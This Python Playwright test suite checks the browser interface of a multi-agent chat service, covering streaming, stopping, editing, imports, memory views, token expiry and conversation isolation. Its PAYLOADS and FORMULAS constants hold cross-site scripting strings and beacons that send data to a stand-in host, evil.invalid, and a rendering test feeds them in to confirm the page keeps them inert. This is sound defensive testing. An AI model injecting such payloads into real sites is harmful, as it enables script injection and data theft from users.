"""The page in a real browser, at a real service: ask, watch, stop, reload, come back; markup stays text."""

import json
import os
import re
import signal
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, Page, Response, Route, expect

from tests.integration.test_server_evaluations import evaluate
from tests.support.cli import massmem, start
from tests.support.configs import read_example
from tests.support.file_server import FileServer, serving
from tests.support.page import MODEL, StartPage, hide_models
from tests.support.pictures import PNG
from tests.support.service import Service, make_agent, make_config, make_token, wait_until

pytestmark = pytest.mark.slow

Open = Callable[..., Page]
"""Opens the page as a user, in a browser of their own."""

MOST_BYTES = 350_000
"""Compressed, of all views, with an answer that has mathematics and code."""

PATIENCE = 60_000
"""Milliseconds: nothing here is about speed."""

expect.set_options(timeout=PATIENCE)

PAYLOADS = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>x</a>",
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "![x](x' onerror='window.hacked=1)",
    "![picture](https://evil.invalid/beacon?secret)",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<body onload=window.hacked=1>",
    "<math><mtext><img src=x onerror=window.hacked=1></mtext></math>",
    "<details open ontoggle=window.hacked=1>",
    "<form action='https://evil.invalid'><button>x</button></form>",
    "```html\n<script>window.hacked=1</script>\n```",
    "&lt;img src=x onerror=window.hacked=1&gt;",
    "</textarea></div><script>window.hacked=1</script>{{window.hacked=1}}",
)
FORMULAS = (
    r"$\href{javascript:window.hacked=1}{x}$ and $\htmlStyle{position:fixed}{x}$",
    r"$$\includegraphics{https://evil.invalid/beacon.png}$$",
    r"$\def\x{\x\x}\x$ and $" + "{" * 900 + "$",
    "a note[^<img/src=x/onerror=window.hacked=1>]",
    "[^<img/src=x/onerror=window.hacked=1>]: <img src=x onerror=window.hacked=1>",
)
RICH = r"""# Scattering

It goes as $I \propto \lambda^{-4}$[^1]; it costs $5 and not $6.

$$
\int_0^\infty e^{-x^2}\,dx
= \frac{\sqrt{\pi}}{2}
$$

and \(a^2\), and

\[ \mathfrak{g} \]

- [x] read
- [ ] measured

| colour | nm |
|:--|--:|
| blue | 450 |

```python
def scatter(nm: float) -> float:
    return 1 / nm**4  # by Rayleigh
```

مرحبا بالعالم

A formula that is none: $\frac{1$.

### Deeper

1. one

   two
2. three

[^1]: Rayleigh, *On the light from the sky*.
"""
CITED: dict[str, Any] = {
    "text": "Air scatters blue light [1]. Some say it is paint [2].",
    "searches": ["why is the sky blue"],
    "citations": [
        {"url": "https://light.example/rayleigh", "title": "<img src=x onerror=window.hacked=1>"},
        {"url": "javascript:window.hacked=1", "title": "Paint"},
    ],
}
NOT_OURS = "script, iframe, style, object, embed, form, img, svg:not(.icon), [onerror], [onload], [style*=fixed]"
"""Elements that no message may bring along."""


MANY = {"chunk_delay": 0.03, "chunk_size": 8, "present": RICH}


def make_council(name: str, text: str, **script: Any) -> dict[str, Any]:
    return make_agent(name, text, vote=[{"vote_for": "scatters", "reason": f"{name} finds it clear."}], **script)


def make_slow(name: str) -> dict[str, Any]:
    """Return an agent that writes for ten minutes: no test is too late to see it write."""
    return make_council(name, f"{name} says that air scatters. " * 400, chunk_delay=0.1, chunk_size=2)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("page")


def make_service(folder: Path) -> Service:
    """Return a service with a quick team, and others that are slow, that ask, and that answer with markup."""
    ask = [{"ask": "order_id", "ask_prompt": "What is the number of your order?", "text": "It left Lisbon."}]
    evil = "\n\n".join(PAYLOADS + FORMULAS)
    teams: dict[str, Any] = {
        "slow": {"agents": [make_slow("ann"), make_slow("ben"), make_council("cleo", "It is air that scatters.")]},
        "asking": {
            "agents": [make_agent("tracker", "It left Lisbon.", answer=ask)],
            "params": {"order_id": {"description": "The number of the order", "pattern": r"O-\d{5}"}},
        },
        "evil": {
            "agents": [
                make_agent("eve", evil, vote=[{"vote_for": "hacked", "reason": evil}]),
                make_agent("mallory", evil, vote=[{"vote_for": "hacked", "reason": evil}], answer=[evil + "!"]),
            ]
        },
        "cited": {"agents": [make_agent("ann", "x", answer=[CITED]), make_agent("ben", "x", answer=[CITED])]},
        "rich": {"agents": [make_agent("ann", RICH)]},
        "many": {"agents": [make_council(f"agent{n}", f"Air scatters, says {n}. " * 40, **MANY) for n in range(8)]},
        "broken": {"agents": [make_agent("ann", "x", answer=[{"error": "auth"}])]},
    }
    names: dict[str, str] = {}
    for name, team in teams.items():
        file = folder / f"{name}.yaml"
        file.write_text(yaml.safe_dump(team))
        names[name] = str(file)
    council = [
        make_council("ann", "Air scatters blue light more than red."),
        make_council("ben", "The sky mirrors the sea."),
        make_council("cleo", "Dust is blue."),
    ]
    limits = {"requests": 100_000, "turns_per_user": 8}
    return Service(folder, make_config(*council, server={"teams": names, "limits": limits, "grace": 0}))


@pytest.fixture(scope="module")
def service(folder: Path) -> Iterator[Service]:
    service = make_service(folder).start()
    yield service
    service.stop()


@pytest.fixture
def open_page(browser: Browser, service: Service) -> Iterator[Open]:
    contexts: list[BrowserContext] = []
    errors: list[str] = []

    def open_as(
        user: str, *, token: str | None = None, on_response: Callable[[Response], None] | None = None, **options: Any
    ) -> Page:
        contexts.append(browser.new_context(**options))
        contexts[-1].set_default_timeout(PATIENCE)
        page = contexts[-1].new_page()
        if on_response is not None:
            page.on("response", on_response)
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(f"{service.url}/#token={token or make_token(user)}")
        return page

    yield open_as
    for context in contexts:
        context.close()
    assert errors == []


def ask(page: Page, question: str, team: str = "") -> None:
    page.get_by_label("Your question").fill(question)
    if team:
        page.get_by_label("Who answers").select_option(team)
    page.get_by_label("Your question").press("Enter")


def final_answer(page: Page) -> Any:
    return page.locator(".message.final:not([aria-busy])").last


def get_address(page: Page) -> str:
    """Return the address of the conversation that the page shows; it has one from its first question on."""
    expect(page).to_have_url(re.compile("#/c/"))
    return page.url


def wait_for_memories(service: Service, user: str) -> None:
    """Wait until all that the user and the agents have said so far is remembered."""
    client = service.client(user)
    wait_until(lambda: len(client.get("/api/v1/memories").json()["memories"]) > 0)


def test_agents_answer_side_by_side_and_the_winner_last(open_page: Open) -> None:
    page = open_page("alice")
    ask(page, "Why is the sky blue?")
    expect(final_answer(page)).to_contain_text("Air scatters blue light")
    expect(final_answer(page)).to_contain_text("ann")
    expect(final_answer(page)).to_contain_text("votes (nobody may choose its own)")
    page.get_by_role("button", name="How they decided").click()
    first = page.get_by_role("region", name="Round 1").locator(".step")
    expect(first).to_have_count(3)
    expect(first.nth(1)).to_contain_text("The sky mirrors the sea.")
    expect(first.nth(2)).to_be_visible()
    # All at once: the list may be scrolled between two looks.
    places = first.evaluate_all(
        "steps => steps.map(step => { const {x, y} = step.getBoundingClientRect(); return [x, y] })"
    )
    assert len({round(y) for _, y in places}) == 1
    assert len({round(x) for x, _ in places}) == 3
    expect(page.locator(".ballot").nth(1)).to_contain_text("votes for ann")
    expect(page.locator(".council")).to_contain_text("ben finds it clear.")
    expect(page.locator(".verdict")).to_contain_text("tokens")
    expect(page.get_by_role("navigation")).to_contain_text("Why is the sky blue?")
    ask(page, "And at night?")
    expect(page.locator(".turn")).to_have_count(2)
    expect(page.locator(".turn").nth(1).locator(".final")).to_contain_text("Air scatters")


def test_council_stays_open_when_the_turn_is_read_from_the_log(open_page: Open) -> None:
    page = open_page("opened")
    held: list[Route] = []
    page.route("**/api/v1/sessions/*?limit=30", lambda route: held.append(route))
    ask(page, "Why is the sky blue?")
    page.get_by_role("button", name="How they decided").click()
    wait_until(lambda: page.locator(".council").is_visible() and len(held) > 0)
    page.route("**/api/v1/sessions/*?limit=30", lambda route: route.continue_())
    for route in held:
        route.continue_()
    expect(final_answer(page).locator("time")).to_be_visible()
    expect(page.locator(".council")).to_be_visible()


def test_answers_are_seen_while_they_are_written_and_a_reload_goes_on(open_page: Open) -> None:
    page = open_page("reload")
    ask(page, "Why?", "slow")
    streams = page.locator(".streaming")
    expect(streams.nth(1)).to_contain_text("ben says")
    length = len(streams.nth(0).inner_text())
    wait_until(lambda: len(streams.nth(0).inner_text()) > length)
    page.reload()
    expect(streams.nth(0)).to_contain_text("ann says that")
    page.get_by_role("button", name="Answer now").click()
    expect(final_answer(page)).to_contain_text("air that scatters")
    expect(page.get_by_role("button", name="Stop")).to_have_count(0)


def test_turn_is_stopped_and_continued(open_page: Open) -> None:
    page = open_page("stop")
    ask(page, "Why?", "slow")
    expect(page.locator(".streaming").first).to_contain_text("says")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("This turn was stopped")).to_be_visible()
    page.get_by_role("button", name="Continue").click()
    expect(page.locator(".streaming").first).to_contain_text("says")
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("This turn was stopped")).to_be_visible()


def test_second_tab_shows_the_same_turn(open_page: Open) -> None:
    page = open_page("tabs")
    ask(page, "Why?", "slow")
    expect(page.locator(".streaming").first).to_contain_text("says")
    other = page.context.new_page()
    other.goto(get_address(page))
    expect(other.locator(".streaming").first).to_contain_text("ann says")
    other.get_by_role("button", name="Answer now").click()
    for tab in (page, other):
        expect(final_answer(tab)).to_contain_text("air that scatters")
    ask(page, "Really?")
    expect(other.locator(".message.user")).to_have_count(2)
    page.get_by_role("button", name="Stop").click()
    expect(other.get_by_text("This turn was stopped")).to_be_visible()


def test_agents_ask_and_the_reply_goes_on(open_page: Open) -> None:
    page = open_page("params")
    ask(page, "Where is my order?", "asking")
    expect(page.get_by_text("What is the number of your order?")).to_be_visible()
    check_view(page, "reply")
    page.get_by_label("Your reply").fill("O-12345")
    page.get_by_role("button", name="Reply").click()
    expect(final_answer(page)).to_contain_text("It left Lisbon.")
    page.reload()
    expect(final_answer(page)).to_contain_text("It left Lisbon.")
    assert "O-12345" not in page.locator("body").inner_text()


def test_failure_is_explained_and_tried_again(open_page: Open) -> None:
    page = open_page("broken")
    ask(page, "Why?", "broken")
    expect(page.get_by_text("No agent could answer.").first).to_be_visible()
    check_view(page, "failure")
    with page.expect_response("**/continue"):
        page.get_by_role("button", name="Try again").last.click()
    expect(page.get_by_text("No agent could answer.").first).to_be_visible()


def test_conversation_is_renamed_exported_forked_found_and_deleted(open_page: Open) -> None:
    page = open_page("manager")
    ask(page, "Why is the sky blue?")
    expect(final_answer(page)).to_be_visible()
    actions = page.get_by_role("button", name="What to do with this conversation")
    actions.click()
    page.get_by_role("menuitem", name="Rename").click()
    page.get_by_role("textbox", name="Name").fill("Colours")
    page.get_by_role("button", name="Rename").click()
    expect(page.get_by_role("heading", name="Colours")).to_be_visible()
    actions.click()
    page.get_by_role("menuitem", name="Export").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="Markdown").click()
    assert "Air scatters" in download.value.path().read_text()
    actions.click()
    page.get_by_role("menuitem", name="Fork").click()
    expect(page.get_by_role("heading", name="Colours (fork)")).to_be_visible()
    links = page.locator(".list a:not(.hit)")
    expect(links).to_have_count(2)
    page.get_by_label("Search conversations").fill("fork")
    expect(links).to_have_count(1)
    page.get_by_label("Search conversations").fill("")
    actions.click()
    page.get_by_role("menuitem", name="Delete").click()
    page.get_by_role("button", name="Delete").click()
    expect(page.get_by_role("heading", name="New conversation")).to_be_visible()
    expect(links).to_have_count(1)


def test_hit_opens_the_conversation_at_its_message(open_page: Open, service: Service) -> None:
    messages = [
        {"role": role, "content": f"{role} {n}. Where is the {'pump' if n in (5, 60) else 'valve'}? " + "More. " * 30}
        for n in range(90)
        for role in ("user", "assistant")
    ]
    service.client("finder").import_export(messages)
    page = open_page("finder")
    page.get_by_label("Search conversations").fill("pump")
    page.locator(".hit", has_text="user 5.").click()
    marked = page.locator(".marked")
    expect(marked).to_contain_text("user 5. Where is the pump?")
    expect(marked).to_be_in_viewport()
    page.get_by_role("button", name="Search in this conversation").click()
    page.get_by_label("Words in this conversation").fill("pump")
    expect(page.get_by_role("search").get_by_role("status")).to_have_text("4 of 4")
    expect(marked).to_contain_text("assistant 60. Where is the pump?")
    expect(marked).to_be_in_viewport()
    assert page.evaluate("CSS.highlights.get('hit').size") >= 4
    check_view(page, "search in a conversation")
    page.get_by_role("button", name="Later hit").click()
    expect(page.get_by_role("search").get_by_role("status")).to_have_text("1 of 4")
    expect(marked).to_contain_text("user 5.")
    tab = page.context.new_page()
    tab.goto(re.sub("/message-.*", "/turn-3", get_address(page)))
    expect(tab.locator(".turn.marked")).to_contain_text("user 2.")
    expect(tab.locator(".turn.marked")).to_be_in_viewport()


def test_open_page_goes_on_after_a_restart(browser: Browser, start_page: StartPage) -> None:
    config = {"agents": [make_agent("ann", "It is blue.")]}
    ui = start_page(config)
    context = browser.new_context()
    page = context.new_page()
    page.goto(ui.address)
    ask(page, "Why?")
    expect(final_answer(page)).to_contain_text("It is blue.")
    ui.stop()
    expect(page.get_by_role("alert")).to_contain_text("cannot be reached")
    assert start_page(config).url == ui.url
    expect(page.get_by_role("alert")).to_have_count(0)
    ask(page, "Really?")
    expect(page.locator(".turn")).to_have_count(2)
    bookmark = context.new_page()
    bookmark.goto(get_address(page))
    expect(final_answer(bookmark)).to_contain_text("It is blue.")
    context.close()


def test_values_are_shown_over_time(open_page: Open) -> None:
    page = open_page("mover")
    for number, statement in enumerate(("My home is Porto.", "My home is Ghent.")):
        ask(page, statement)
        expect(page.locator(".turn").nth(number).locator(".message.final:not([aria-busy])")).to_be_visible()
    page.goto(f"{get_address(page).partition('#')[0]}#/memory/history")
    page.get_by_label("What the values are of").fill("home")
    expect(page.get_by_role("cell", name="Porto")).to_have_count(0)
    page.get_by_role("button", name="Show").click()
    expect(page.get_by_role("heading", name="You: home")).to_be_visible()
    rows = page.locator("tbody tr")
    expect(rows).to_have_count(2)
    expect(rows.first).to_contain_text("Porto")
    expect(rows.last).to_contain_text("holds")


def test_question_that_is_asked_in_other_words_becomes_another_version(open_page: Open, tmp_path: Path) -> None:
    page = open_page("editor")
    ask(page, "Why is the sky blue?")
    expect(final_answer(page)).to_be_visible()
    (tmp_path / "dot.png").write_bytes(PNG)
    page.locator("input[type=file]").set_input_files([tmp_path / "dot.png"])
    ask(page, "And at night?")
    expect(page.locator(".turn")).to_have_count(2)
    expect(page.locator(".turn").nth(1).locator(".message.final:not([aria-busy])")).to_be_visible()
    first = get_address(page)
    page.get_by_role("region", name="Turn 2").get_by_role("button", name="Edit").press("Enter")
    field = page.get_by_label("Your question; the one before")
    expect(field).to_be_focused()
    expect(field).to_have_value("And at night?")
    page.keyboard.press("Escape")
    expect(page.get_by_role("region", name="Turn 2").get_by_role("button", name="Edit")).to_be_focused()
    page.keyboard.press("Enter")
    check_view(page, "editing")
    field.fill("And at dawn?")
    field.press("Enter")
    questions = page.locator(".message.user .plain:not(button)")
    expect(questions).to_contain_text(["Why is the sky blue?", "And at dawn?"])
    expect(page.locator(".turn").nth(1).locator(".message.final:not([aria-busy])")).to_be_visible()
    expect(page.locator(".picture")).to_be_visible()
    assert get_address(page) == first
    versions = page.get_by_role("group", name="Versions")
    expect(versions).to_have_text("2/2")
    check_view(page, "versions")
    versions.get_by_role("button", name="Earlier version").click()
    expect(questions).to_contain_text(["Why is the sky blue?", "And at night?"])
    expect(versions).to_have_text("1/2")
    expect(versions.get_by_role("button", name="Earlier version")).to_be_disabled()
    versions.get_by_role("button", name="Later version").press("Enter")
    expect(questions).to_contain_text(["Why is the sky blue?", "And at dawn?"])
    expect(page.locator(".list a")).to_have_count(1)
    page.get_by_role("region", name="Turn 1").get_by_role("button", name="Ask again").click()
    page.locator(".editing").get_by_label("Team").select_option("asking")
    page.get_by_role("button", name="Ask", exact=True).first.click()
    expect(page.get_by_text("What is the number of your order?")).to_be_visible()
    expect(questions).to_have_text(["Why is the sky blue?"])
    page.reload()
    expect(questions).to_have_text(["Why is the sky blue?"])
    versions.get_by_role("button", name="Earlier version").click()
    expect(questions).to_contain_text(["Why is the sky blue?", "And at dawn?"])


def test_conversations_of_other_programs_are_imported(open_page: Open, tmp_path: Path) -> None:
    page = open_page("importer")
    messages = [{"role": "user", "content": "Where is the pump?"}, {"role": "assistant", "content": "In the cellar."}]
    (tmp_path / "old.json").write_text(json.dumps(messages))
    (tmp_path / "broken.json").write_text("Hello")
    page.get_by_role("button", name="Import conversations").press("Enter")
    dialog = page.get_by_role("dialog")
    check_view(page, "import")
    dialog.get_by_label("File").set_input_files([tmp_path / "broken.json"])
    dialog.get_by_role("button", name="Import").click()
    expect(dialog.get_by_role("alert")).to_contain_text("neither JSON nor JSON lines")
    dialog.get_by_label("File").set_input_files([tmp_path / "old.json"])
    dialog.get_by_role("button", name="Import").click()
    expect(dialog.get_by_role("status")).to_contain_text("1 conversation read, 1 question")
    check_view(page, "imported")
    dialog.get_by_role("button", name="Import").click()
    expect(dialog.locator(".outcome")).to_contain_text("nothing new")
    chain = [{"role": role, "content": f"{role} {n}"} for n in range(15_000) for role in ("user", "assistant")]
    (tmp_path / "long.json").write_text(json.dumps(chain))
    dialog.get_by_label("File").set_input_files([tmp_path / "long.json"])
    dialog.get_by_role("button", name="Import").click()
    expect(dialog.get_by_role("status")).to_contain_text("of 15,000 questions imported")
    dialog.get_by_role("button", name="Stop").click()
    expect(dialog.get_by_role("status")).to_contain_text("the import was stopped. Import the file again to go on.")
    dialog.get_by_label("File").set_input_files([tmp_path / "old.json"])
    dialog.get_by_role("button", name="Import").click()
    expect(dialog.locator(".outcome")).to_contain_text("nothing new")
    dialog.get_by_role("link", name="Where is the pump?").click()
    expect(final_answer(page)).to_contain_text("In the cellar.")
    expect(dialog).to_have_count(0)


def test_files_go_with_a_question(open_page: Open, tmp_path: Path) -> None:
    page = open_page("files")
    (tmp_path / "notes.txt").write_text("The sky over Lisbon.\n" * 75)
    (tmp_path / "dot.png").write_bytes(PNG)
    page.locator("input[type=file]").set_input_files([tmp_path / "notes.txt"])
    expect(page.get_by_text("notes.txt")).to_be_visible()
    ask(page, "What is in it?")
    expect(final_answer(page)).to_be_visible()
    expect(page.locator(".composer .file")).to_have_count(0)
    chip = page.locator(".message.user summary")
    expect(chip).to_have_text("notes.txt 1,574 characters")
    expect(page.get_by_role("heading", name="What is in it?", exact=True)).to_be_visible()
    chip.press("Enter")
    expect(page.locator(".message.user pre")).to_contain_text("The sky over Lisbon.")
    check_view(page, "text of a file")
    page.locator("input[type=file]").set_input_files([tmp_path / "dot.png"])
    ask(page, "What is this?")
    expect(page.locator(".picture")).to_be_visible()
    page.get_by_label("Search conversations").fill("Lisbon")
    expect(page.locator(".hit .excerpt").first).to_contain_text("notes.txt: The sky over")
    expect(page.locator(".hit .title").first).to_have_text("What is in it?")
    page.get_by_role("region", name="Turn 1").get_by_role("button", name="Ask again").click()
    expect(page.get_by_label("Your question; the one before")).to_have_value("What is in it?")
    page.get_by_role("button", name="Ask", exact=True).first.click()
    expect(page.get_by_role("region", name="Turn 2")).to_have_count(0)
    expect(page.locator(".message.user summary")).to_have_text("notes.txt 1,574 characters")


def test_unreadable_file_is_refused_when_it_is_chosen(open_page: Open, tmp_path: Path) -> None:
    page = open_page("refused")
    (tmp_path / "noise.bin").write_bytes(b"\xff\x00\x01")
    (tmp_path / "cut.png").write_bytes(PNG[:-20])
    (tmp_path / "large.txt").write_bytes(b"x" * 10_000_001)
    (tmp_path / "notes.txt").write_text("Lisbon")
    sentences = {
        "noise.bin": "is no text", "cut.png": "is cut off", "large.txt": "is larger than 10.0 MB",
    }  # fmt: skip
    for name, sentence in sentences.items():
        page.locator("input[type=file]").set_input_files([tmp_path / name])
        expect(page.get_by_role("alert")).to_contain_text(f"{name} {sentence}")
        expect(page.locator(".composer .file")).to_have_count(0)
    page.get_by_label("Your question").fill("What is it?")
    held: list[Route] = []
    page.route("**/files/check*", lambda route: held.append(route))
    page.locator("input[type=file]").set_input_files([tmp_path / "noise.bin", tmp_path / "notes.txt"])
    page.get_by_label("Your question").press("Enter")
    wait_until(lambda: page.locator(".composer .file").count() == 2 and len(held) > 0)
    page.route("**/files/check*", lambda route: route.continue_())
    held[0].continue_()
    expect(page.get_by_role("alert")).to_contain_text("noise.bin")
    expect(page.locator(".composer .file")).to_contain_text("notes.txt")
    expect(page.get_by_label("Your question")).to_have_value("What is it?")
    check_view(page, "refused file")


def test_draft_stays_until_it_was_sent(open_page: Open, service: Service, tmp_path: Path) -> None:
    page = open_page("drafts")
    (tmp_path / "notes.txt").write_text("Lisbon")

    def check_draft() -> None:
        expect(page.get_by_label("Your question")).to_have_value("What is in it?")
        expect(page.locator(".composer .file")).to_contain_text("notes.txt")

    page.locator("input[type=file]").set_input_files([tmp_path / "notes.txt"])
    page.get_by_label("Your question").fill("What is in it?")
    expect(page.locator(".composer .file")).to_contain_text("notes.txt")
    page.wait_for_timeout(500)  # the browser writes it down
    page.reload()
    check_draft()
    page.route("**/chat/stream", lambda route: route.abort())
    page.get_by_label("Your question").press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("cannot be reached")
    check_draft()
    names: list[str] = []

    def lose_answer(route: Route) -> None:
        route.fetch()
        route.abort()
        names.append(route.request.headers["idempotency-key"])

    page.route("**/chat/stream", lose_answer)
    page.get_by_label("Your question").press("Enter")
    wait_until(lambda: page.get_by_role("alert").count() == 1 and len(names) == 1)
    check_draft()
    page.route("**/chat/stream", lambda route: route.continue_())
    page.get_by_label("Your question").press("Enter")
    expect(final_answer(page)).to_be_visible()
    expect(page.get_by_label("Your question")).to_have_value("")
    assert [entry["turns"] for entry in service.client("drafts").get("/api/v1/sessions").json()["sessions"]] == [1]
    page.reload()
    expect(final_answer(page)).to_be_visible()
    expect(page.get_by_label("Your question")).to_have_value("")


def test_conversation_that_was_deleted_in_another_tab_does_not_begin_anew(open_page: Open, service: Service) -> None:
    page = open_page("deleted")
    ask(page, "Why is the sky blue?")
    expect(final_answer(page)).to_be_visible()
    client = service.client("deleted")
    (session_id,) = client.list_sessions()
    assert client.delete(f"/api/ai-memory/conversations/{session_id}").status_code == 200
    expect(page.get_by_text("There is no such conversation")).to_be_visible()
    assert client.list_sessions() == []


def test_team_of_a_conversation_is_shown_and_changed(open_page: Open) -> None:
    page = open_page("teams")
    ask(page, "Why is the sky blue?")
    expect(final_answer(page)).to_be_visible()
    ask(page, "Where is my order?", "asking")
    expect(page.get_by_text("What is the number of your order?")).to_be_visible()
    page.get_by_label("Your reply").fill("O-12345")
    page.get_by_role("button", name="Reply").click()
    expect(final_answer(page)).to_contain_text("It left Lisbon.")
    page.reload()
    expect(page.get_by_label("Who answers")).to_have_value("asking")


def test_change_of_the_team_is_said_before_the_question(
    browser: Browser, start_page: StartPage, tmp_path: Path
) -> None:
    for name in ("kept", "gone"):
        (tmp_path / f"{name}.yaml").write_text(yaml.safe_dump({"agents": [make_agent("dora", "Seven hills.")]}))
    started = start_page({"agents": [make_agent("ann", "It is blue.")]})
    for name in ("kept", "gone"):
        asked = massmem("--config", str(tmp_path / f"{name}.yaml"), f"Is it {name}?", env={"HOME": str(started.home)})
        assert asked.returncode == 0, asked.stderr
    (tmp_path / "gone.yaml").unlink()
    context = browser.new_context(viewport={"width": 400, "height": 900})
    context.set_default_timeout(PATIENCE)
    try:
        page = context.new_page()
        page.goto(started.address)
        page.get_by_role("button", name="Show conversations").click()
        page.get_by_role("link", name="Is it gone?").click()
        note = page.locator(".composer .notice")
        expect(note).to_contain_text("Another team answers from here on: ann (so far: dora)")
        expect(note).to_contain_text("gone.yaml, with which this conversation began, is not there.")
        check_view(page, "another team")
        page.get_by_role("button", name="Show conversations").click()
        page.get_by_role("link", name="Is it kept?").click()
        expect(final_answer(page)).to_contain_text("Seven hills.")
        expect(note).to_have_count(0)
        ask(page, "Really?")
        expect(page.locator(".turn").nth(1).locator(".message.final:not([aria-busy])")).to_contain_text("Seven hills.")
    finally:
        context.close()


def test_context_memory_and_figures_are_shown(open_page: Open, service: Service) -> None:
    page = open_page("views")
    ask(page, "Why is the sky blue?")
    expect(final_answer(page)).to_be_visible()
    wait_for_memories(service, "views")
    page.get_by_role("link", name="Context").click()
    expect(page.locator(".card .shares")).to_have_count(3)
    page.locator("summary", has_text="Messages").first.click()
    expect(page.locator(".parts pre").nth(1)).to_contain_text("Why is the sky blue?")
    page.get_by_role("link", name="Memory").click()
    page.get_by_label("What to look for").fill("blue sky")
    page.locator("form.card").get_by_role("button", name="Search").click()
    memory = page.locator(".memory", has_text="Air scatters blue light").first
    expect(memory).to_contain_text("it said this itself")
    memory.get_by_role("button", name="Where it comes from").click()
    expect(memory.locator(".sources")).to_contain_text("ann")
    memory.get_by_role("button", name="Forget", exact=True).click()
    page.get_by_role("dialog").get_by_role("button", name="Forget").click()
    expect(page.get_by_text("Forgotten at")).to_be_visible()
    page.evaluate("location.hash = '/memory/all'")
    page.get_by_role("button", name="Forget everywhere").first.click()
    page.get_by_role("dialog").get_by_role("button", name="Forget").click()
    expect(page.get_by_text("Nothing of it is left")).to_be_visible(timeout=30_000)
    page.get_by_role("link", name="Figures").first.click()
    expect(page.locator(".tile", has_text="Questions")).to_contain_text("1")
    expect(page.get_by_role("row", name=re.compile("^ann"))).to_contain_text("100 %")
    others = "(await import('/page/chart.js')).addColours({user: 7, ann: 0}, ['ann', 'old', 'older'])"
    assert page.evaluate(f"async () => {others}") == {"user": 7, "ann": 0, "old": 1, "older": 2}


def test_memory_is_corrected_and_pinned_by_keyboard(open_page: Open, service: Service) -> None:
    page = open_page("keeper")
    ask(page, "Why is the sky blue?")
    expect(final_answer(page)).to_be_visible()
    wait_for_memories(service, "keeper")
    page.evaluate("location.hash = '/memory/all'")
    memory = page.locator(".memory", has_text="Why is the sky blue?")
    memory.get_by_role("button", name="Correct").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_label("What agents are to know")).to_be_focused()
    check_view(page, "the text of a memory")
    page.get_by_label("What agents are to know").fill("Why is the sea green?")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    memory = page.locator(".memory", has_text="Why is the sea green?")
    expect(memory).to_contain_text("edited")
    memory.get_by_role("button", name="Pin").press("Enter")
    expect(memory.get_by_role("button", name="Unpin")).to_be_visible()
    memory.get_by_role("button", name="Where it comes from").click()
    expect(memory.locator(".sources")).to_contain_text("corrected")
    expect(memory.locator(".sources pre").first).to_have_text("Why is the sky blue?")
    check_view(page, "a memory with its changes")
    page.get_by_label("Pinned").check()
    expect(page.locator(".memory")).to_have_count(1)


def test_others_conversations_do_not_exist(open_page: Open) -> None:
    owner = open_page("owner")
    ask(owner, "A secret?")
    expect(final_answer(owner)).to_be_visible()
    thief = open_page("thief")
    expect(thief.get_by_label("Your question")).to_be_visible()
    thief.goto(get_address(owner))
    expect(thief.get_by_text("There is no such conversation")).to_be_visible()
    assert "secret" not in thief.locator("body").inner_text()


def test_expired_token_asks_to_come_in_again(open_page: Open) -> None:
    page = open_page("late", token=make_token("late", 2))
    page.get_by_role("heading", name="massmem").wait_for()
    page.get_by_label("Key or token").fill("nonsense")
    page.get_by_role("button", name="Come in").click()
    expect(page.get_by_text("not valid, has expired")).to_be_visible()
    page.get_by_label("Key or token").fill(make_token("late"))
    page.get_by_role("button", name="Come in").click()
    ask(page, "Why?")
    expect(final_answer(page)).to_be_visible()


def test_page_that_is_left_open_beyond_its_token_asks_for_another_and_goes_on(open_page: Open) -> None:
    lifetime = 15
    page = open_page("early", token=make_token("early", lifetime))
    ask(page, "Why is the sky blue?")
    expect(final_answer(page)).to_be_visible()
    address = get_address(page)
    # It looks for news every few seconds.
    expect(page.get_by_label("Key or token")).to_be_visible()
    assert "sky" not in page.locator("main").inner_text()
    page.get_by_label("Key or token").fill(make_token("early"))
    page.get_by_role("button", name="Come in").click()
    expect(page.locator(".message.user").first).to_contain_text("Why is the sky blue?")
    assert get_address(page) == address
    ask(page, "And at night?")
    expect(page.locator(".turn")).to_have_count(2)
    expect(final_answer(page)).to_be_visible()


def test_killed_service_comes_back_and_the_turn_with_it(browser: Browser, tmp_path: Path) -> None:
    service = make_service(tmp_path).start()
    context = browser.new_context()
    context.set_default_timeout(PATIENCE)
    try:
        page = context.new_page()
        page.goto(f"{service.url}/#token={make_token('alice')}")
        ask(page, "Why?", "slow")
        expect(page.locator(".streaming").first).to_contain_text("says")
        service.kill()
        expect(page.get_by_text("The connection was lost")).to_be_visible()
        service.start()
        expect(page.get_by_text("The connection was lost")).to_have_count(0)
        expect(page.locator(".streaming").first).to_contain_text("says")
        page.get_by_role("button", name="Answer now").click()
        expect(final_answer(page)).to_contain_text("air that scatters")
    finally:
        context.close()
        service.stop()


def test_markup_stays_text_wherever_it_comes_from(open_page: Open) -> None:
    page = open_page("evil")
    beacons: list[str] = []
    page.on("request", lambda request: beacons.append(request.url) if "evil.invalid" in request.url else None)
    ask(page, "\n".join(PAYLOADS), "evil")
    expect(final_answer(page)).to_be_visible()
    page.get_by_role("button", name="How they decided").click()
    expect(page.locator(".council .step").first).to_be_visible()
    for payload in PAYLOADS:
        assert payload.splitlines()[0] in page.locator(".message.user").inner_text()
    assert page.locator(f".messages :is({NOT_OURS})").count() == 0
    assert page.locator(f".list :is({NOT_OURS})").count() == 0
    assert page.locator(".messages a:not([href^='https://']):not([href^='http://'])").count() == 0
    page.get_by_role("link", name="Context").click()
    expect(page.locator(".shares").first).to_be_visible()
    page.get_by_role("link", name="Memory").click()
    page.get_by_role("link", name="Browse").click()
    expect(page.locator(".memory").first).to_be_visible()
